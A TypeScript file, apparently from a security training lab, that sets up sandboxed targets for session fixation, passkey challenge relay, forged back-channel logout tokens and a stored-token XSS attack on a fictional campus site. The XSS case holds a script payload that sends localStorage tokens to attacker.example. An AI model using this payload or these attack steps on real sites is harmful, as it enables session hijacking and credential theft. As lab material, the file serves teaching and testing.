// The sandboxes about sessions, passkeys, logout and injected scripts, as the attacks want them.
import { ISSUER } from '@/lib/lab/world/jwt'
import { SandboxPlay } from './sandbox-play'
import { tokenSandbox } from './sandbox-token-target'
import type { InjectedTarget, LogoutTarget, PasskeyTarget, SessionTarget } from './target'

const CAMPUS = 'https://campus.example'
const EVENT = 'http://schemas.openid.net/event/backchannel-logout'

export function sessionSandbox(guarded: boolean): SessionTarget {
  const play = new SandboxPlay('session-fixation', guarded)
  return {
    attackersSession: async () => {
      await play.send(CAMPUS)
      const cookie = (await play.view()).cookies.attacker.find(({ name }) => name === 'session')
      return cookie?.value ?? ''
    },
    plant: async (session) => {
      await play.visit(`${CAMPUS}/?session=${session}`)
    },
    victimSignsIn: async () => {
      await play.act('sign-in')
    },
    isVictims: async () => (await play.send(`${CAMPUS}/api/me`)).status === 200 && (await play.view()).isWon,
  }
}

export function passkeySandbox(id: string, guarded: boolean): PasskeyTarget & { subdomain: string } {
  const play = new SandboxPlay(id, guarded)
  return {
    subdomain: 'https://old.campus.example',
    victimSignsIn: async () => {
      await play.act('sign-in')
      const { body } = await play.send(`${CAMPUS}/debug/log`)
      return JSON.parse(body.slice(body.indexOf('{'))) as unknown
    },
    victimAnswersAt: async (origin) => {
      const { json } = await play.send(`${CAMPUS}/passkey/options`, { method: 'POST' })
      const { arrivals } = await play.visit(`${origin}/?challenge=${String(json().challenge)}`)
      return JSON.parse(arrivals.at(-1)?.body ?? 'null') as unknown
    },
    signsAttackerIn: async (answer) => {
      await play.send(`${CAMPUS}/passkey/verify`, { method: 'POST', body: JSON.stringify(answer) })
      return (await play.send(`${CAMPUS}/api/me`)).status === 200 && (await play.view()).isWon
    },
  }
}

export function logoutSandbox(guarded: boolean): LogoutTarget {
  const play = new SandboxPlay('logout-token-forgery', guarded)
  return {
    claims: async () => ({ iss: ISSUER, aud: 'campus', sub: 'alice', jti: 'j1', events: { [EVENT]: {} } }),
    tell: async (token) => {
      await play.form(`${CAMPUS}/backchannel-logout`, { logout_token: token })
    },
    victimIsSignedIn: async () => !(await play.view()).isWon,
  }
}

export function injectedSandbox(guarded: boolean): InjectedTarget {
  const play = new SandboxPlay('token-in-local-storage', guarded)
  return {
    stored: async () => {
      const script = `<script>fetch('https://attacker.example/?t='+localStorage.token)</script>`
      const { arrivals } = await play.visit(`${CAMPUS}/search?q=${encodeURIComponent(script)}`)
      return arrivals.map(({ url }) => new URL(url).searchParams.get('t') ?? '')
    },
    readsVictim: (token) => tokenSandbox('', guarded, play).readsVictim(token),
  }
}
